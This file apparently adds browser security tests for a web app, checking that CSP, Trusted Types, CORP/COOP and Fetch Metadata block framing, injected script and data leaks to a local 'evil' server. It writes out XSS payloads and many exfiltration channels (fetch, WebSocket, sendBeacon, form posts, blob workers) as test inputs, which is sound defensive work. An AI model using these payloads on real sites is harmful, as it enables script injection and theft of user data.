@@ -1,0 +1,320 @@
+// What the policies of the page forbid in a real browser: frames, foreign code, other hosts; and what another site can find out.
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser, BrowserContext, Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { launch } from '../_browser.ts'
+import { type RunningApp, startApp } from './_running-app.ts'
+
+const DATA = 'Harbour Rope Works'
+/** Each way in which a page can send something to another host, or run code from there. */
+const WAYS_OUT = [
+  'fetch',
+  'import',
+  'import of data:',
+  'WebSocket',
+  'EventSource',
+  'sendBeacon',
+  'XMLHttpRequest',
+  'form',
+  'image',
+  'script',
+  'style',
+  'frame',
+  'worker of blob:',
+  'prefetch',
+] as const
+
+let running: RunningApp
+let browser: Browser
+let evil: { server: Server; url: string; asked: string[]; page: string }
+/** Signed in with OAuth, so that tokens exist. */
+let context: BrowserContext
+let page: Page
+
+beforeAll(async () => {
+  running = await startApp()
+  browser = await launch()
+  evil = await openEvil()
+  context = await browser.newContext()
+  page = await context.newPage()
+  await page.goto(`${running.url}/organizations/1001?tab=quota#usage`)
+  await page.getByRole('button', { name: 'Sign in · 1 request' }).click()
+  await page.getByRole('button', { name: /Ada/ }).click()
+  await page.getByRole('button', { name: 'Permit' }).click()
+  await page.getByText(DATA).first().waitFor()
+})
+afterAll(async () => {
+  await browser?.close()
+  await running?.stop()
+  await new Promise((resolve) => evil?.server.close(resolve).closeAllConnections())
+})
+
+/** Another site: it answers `/` with whatever page a test gives it, and counts everything else. */
+async function openEvil() {
+  const made = { server: createServer(), url: '', asked: [] as string[], page: '' }
+  made.server.on('request', ({ url = '' }, response) => {
+    if (url !== '/') made.asked.push(url)
+    response.setHeader('Access-Control-Allow-Origin', '*')
+    response.writeHead(200, { 'Content-Type': url === '/' ? 'text/html' : 'text/javascript' })
+    response.end(url === '/' ? made.page : 'globalThis.ranForeignCode = true')
+  })
+  await new Promise<void>((resolve) => made.server.listen(0, '127.0.0.1', resolve))
+  made.url = `http://127.0.0.1:${(made.server.address() as AddressInfo).port}`
+  return made
+}
+
+async function openEvilPage(from: BrowserContext, html: string): Promise<Page> {
+  evil.page = `<!doctype html><title>evil</title><body>${html}`
+  const attacker = await from.newPage()
+  await attacker.goto(`${evil.url}/`)
+  return attacker
+}
+
+test('a deep link with query and fragment is where the sign-in ends', () => {
+  expect(page.url()).toBe(`${running.url}/organizations/1001?tab=quota#usage`)
+})
+
+test('no page of ours shows in a frame of another site, nor does the callback do anything there (CSP 3 6.4.2)', async () => {
+  const targets = ['/', '/organizations/1001', '/callback?code=a&state=b', '/bff/session', '/assets/none.js']
+  const frames = targets.flatMap((path) =>
+    ['iframe src', 'embed src', 'object data'].map(
+      (tag) => `<${tag}="${running.url}${path}"></${tag.split(' ')[0]}>`,
+    ),
+  )
+  const attacker = await openEvilPage(context, frames.join(''))
+  await attacker.waitForLoadState('networkidle')
+  const shown = await Promise.all(
+    attacker
+      .frames()
+      .slice(1)
+      .map((frame) =>
+        frame
+          .locator('body')
+          .textContent({ timeout: 2000 })
+          .catch(() => ''),
+      ),
+  )
+  expect(shown.length).toBeGreaterThanOrEqual(targets.length)
+  expect(shown.join()).not.toMatch(/Plimsoll|Harbour|Sign in|signed_in|Finishing/)
+  await attacker.close()
+})
+
+test('what another site sees of ours is the same whether the person is signed in or not (CORP, COOP)', async () => {
+  const probe = async (from: BrowserContext) => {
+    const attacker = await openEvilPage(from, '')
+    const seen = await attacker.evaluate(async (app) => {
+      const outcomeOf = (tag: 'img' | 'script' | 'link', path: string) =>
+        new Promise<string>((resolve) => {
+          const element = document.createElement(tag)
+          element.onload = () => resolve('load')
+          element.onerror = () => resolve('error')
+          if (element instanceof HTMLLinkElement) element.rel = 'stylesheet'
+          element.setAttribute(tag === 'link' ? 'href' : 'src', app + path)
+          document.body.append(element)
+        })
+      const found: string[] = []
+      for (const path of [
+        '/',
+        '/bff/session',
+        '/bff/quota',
+        '/api/organizations/1001',
+        '/organizations/1001',
+      ])
+        for (const tag of ['img', 'script', 'link'] as const)
+          found.push(`${path} ${tag} ${await outcomeOf(tag, path)}`)
+      for (const mode of ['cors', 'no-cors'] as const)
+        found.push(
+          await fetch(`${app}/bff/session`, { mode, credentials: 'include' }).then((r) => r.type, String),
+        )
+      const opened = window.open(`${app}/organizations/1001`)
+      await new Promise((resolve) => setTimeout(resolve, 1500))
+      return [...found, `window ${opened?.closed} ${opened?.length}`]
+    }, running.url)
+    await attacker.close()
+    return seen
+  }
+  const stranger = await browser.newContext()
+  const [signedIn, signedOut] = [await probe(context), await probe(stranger)]
+  expect(signedIn).toEqual(signedOut)
+  expect(signedIn.at(-1)).toBe('window true 0')
+  expect(signedIn.filter((line) => line.endsWith(' load'))).toEqual([])
+  await stranger.close()
+})
+
+test('an address of our server that is opened as a page shows no data (Fetch Metadata 2.1)', async () => {
+  const tab = await context.newPage()
+  for (const path of [
+    '/bff/session',
+    '/bff/quota',
+    '/bff/sessions',
+    '/api/organizations/1001',
+    '/api/rate_limit',
+  ]) {
+    const response = await tab.goto(running.url + path)
+    expect([path, response?.status()]).toEqual([path, 403])
+    expect(await tab.content()).not.toMatch(/Harbour|signed_in|remaining/)
+  }
+  await tab.close()
+})
+
+test('markup in what the service sends is text, and code that is injected all the same does not run (Trusted Types 4.2)', async () => {
+  const complaints: string[] = []
+  const tab = await context.newPage()
+  tab.on('console', (message) => complaints.push(message.text()))
+  const markup = `<img src=x onerror="globalThis.ranForeignCode = true"><script>globalThis.ranForeignCode = true</script>`
+  await tab.route(`${running.url}/api/organizations/*`, (route) =>
+    route.fulfill({
+      headers: { Age: '1', 'X-Plimsoll-Spent': '0' },
+      json: {
+        name: markup,
+        website: 'javascript:globalThis.ranForeignCode=true',
+        [markup]: [{ id: markup }],
+      },
+    }),
+  )
+  await tab.goto(`${running.url}/organizations/1001`)
+  await tab.getByText('<img src=x').first().waitFor()
+  expect(await tab.locator('a[href^="javascript:"]').count()).toBe(0)
+  expect(complaints.filter((text) => !text.includes('Failed to load'))).toEqual([])
+  const refused = await tab.evaluate(async () => {
+    // What the debugger itself calls may use eval; what a timer calls may not.
+    await new Promise((resolve) => setTimeout(resolve))
+    const attempts: (() => unknown)[] = [
+      () => (document.body.innerHTML = '<img src=x onerror="globalThis.ranForeignCode = true">'),
+      () => document.write('<p>'),
+      () => (0, eval)('1'),
+      () => new Function('return 1')(),
+      () => setTimeout('globalThis.ranForeignCode = true' as never),
+      () => (document.createElement('script').text = 'globalThis.ranForeignCode = true'),
+      () => window.trustedTypes?.createPolicy('any', { createHTML: (text) => text }),
+    ]
+    return attempts.map((attempt) => {
+      try {
+        attempt()
+        return 'done'
+      } catch {
+        return 'refused'
+      }
+    })
+  })
+  expect(refused).toEqual(Array.from(refused, () => 'refused'))
+  // An attribute runs where the policy allows inline code.
+  await tab.evaluate(() => {
+    const button = document.createElement('button')
+    document.body.append(button)
+    try {
+      button.setAttribute('onclick', 'globalThis.ranForeignCode = true')
+    } catch {
+      // Refused already.
+    }
+    button.click()
+  })
+  expect(await tab.evaluate(() => 'ranForeignCode' in globalThis)).toBe(false)
+  await tab.close()
+})
+
+test('a rogue module in the page reaches no other host (CSP 3 6.1)', async () => {
+  const tab = await context.newPage()
+  await tab.goto(`${running.url}/organizations/1001`)
+  await tab.getByText(DATA).first().waitFor()
+  evil.asked.length = 0
+  const ways = await tab.evaluate(async (to) => {
+    const add = (tag: string, attributes: Record<string, string>) => {
+      const element = document.createElement(tag)
+      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+      document.body.append(element)
+    }
+    const run: Record<string, () => unknown> = {
+      fetch: () => fetch(`${to}/fetch`, { mode: 'no-cors' }),
+      import: () => import(/* @vite-ignore */ `${to}/import.js`),
+      'import of data:': () =>
+        import(/* @vite-ignore */ 'data:text/javascript,globalThis.ranForeignCode=true'),
+      WebSocket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
+      EventSource: () => new EventSource(`${to}/events`),
+      sendBeacon: () => navigator.sendBeacon(`${to}/beacon`, 'x'),
+      XMLHttpRequest: () => {
+        const request = new XMLHttpRequest()
+        request.open('POST', `${to}/xhr`)
+        request.send('x')
+      },
+      form: () => {
+        add('form', { action: `${to}/form`, method: 'post', target: '_blank' })
+        document.forms[document.forms.length - 1]?.submit()
+      },
+      image: () => add('img', { src: `${to}/image` }),
+      script: () => add('script', { src: `${to}/script.js` }),
+      style: () => add('link', { rel: 'stylesheet', href: `${to}/style.css` }),
+      frame: () => add('iframe', { src: `${to}/frame` }),
+      'worker of blob:': () => new Worker(URL.createObjectURL(new Blob([`fetch('${to}/worker')`]))),
+      prefetch: () => add('link', { rel: 'prefetch', href: `${to}/prefetch` }),
+    }
+    for (const attempt of Object.values(run))
+      await Promise.resolve()
+        .then(attempt)
+        .catch(() => {})
+    await new Promise((resolve) => setTimeout(resolve, 1500))
+    return Object.keys(run)
+  }, evil.url)
+  expect(ways).toEqual([...WAYS_OUT])
+  expect(evil.asked).toEqual([])
+  expect(await tab.evaluate(() => 'ranForeignCode' in globalThis)).toBe(false)
+  await tab.close()
+})
+
+test('no token, key or cookie is in anything that code of the page can read (ASVS 14.3.3)', async () => {
+  const readable = await page.evaluate(async () => {
+    const databases = await indexedDB.databases()
+    const workers = await navigator.serviceWorker.getRegistrations()
+    return {
+      stores: [...databases, ...workers, ...(await caches.keys())].length,
+      cookie: document.cookie,
+      text: JSON.stringify([
+        { ...localStorage },
+        { ...sessionStorage },
+        performance.getEntries().map(({ name }) => name),
+        history.state,
+        window.name,
+        document.documentElement.outerHTML,
+        Object.getOwnPropertyNames(window).map((name) => String(window[name as never])),
+      ]),
+    }
+  })
+  expect([readable.stores, readable.cookie]).toEqual([0, ''])
+  const { access_tokens, refresh_tokens } = running.sandboxState()
+  const cookies = (await context.cookies(running.url)).filter(({ name }) => name.startsWith('__Host-'))
+  expect(cookies.every(({ httpOnly, secure, sameSite }) => httpOnly && secure && sameSite === 'Strict')).toBe(
+    true,
+  )
+  const canaries = [
+    ...Object.keys(access_tokens),
+    ...Object.keys(refresh_tokens),
+    ...cookies.map(({ value }) => value),
+  ]
+  expect(canaries.length).toBeGreaterThanOrEqual(3)
+  expect(canaries.filter((canary) => readable.text.includes(canary))).toEqual([])
+})
+
+test('an old page in front of a newer server shows a notice, and does not load itself again and again', async () => {
+  const stranger = await browser.newContext()
+  const tab = await stranger.newPage()
+  let loads = 0
+  tab.on('framenavigated', (frame) => {
+    if (frame === tab.mainFrame()) loads += 1
+  })
+  await tab.goto(`${running.url}/organizations/1001`)
+  const press = tab.getByRole('button', { name: 'Sign in · 1 request' })
+  await press.waitFor()
+  // The files of the page are gone, and the server answers in another shape.
+  await tab.route(`${running.url}/assets/**`, (route) => route.fulfill({ status: 404, body: 'Not found' }))
+  await press.click()
+  await tab.getByRole('alert').first().waitFor()
+  expect(loads).toBe(1)
+  await tab.unroute(`${running.url}/assets/**`)
+  await tab.route(`${running.url}/bff/session`, (route) => route.fulfill({ json: { version: 2 } }))
+  await tab.reload()
+  await tab.getByText('The answer makes no sense to Plimsoll').waitFor()
+  await tab.waitForTimeout(2000)
+  expect(loads).toBe(2)
+  await stranger.close()
+})
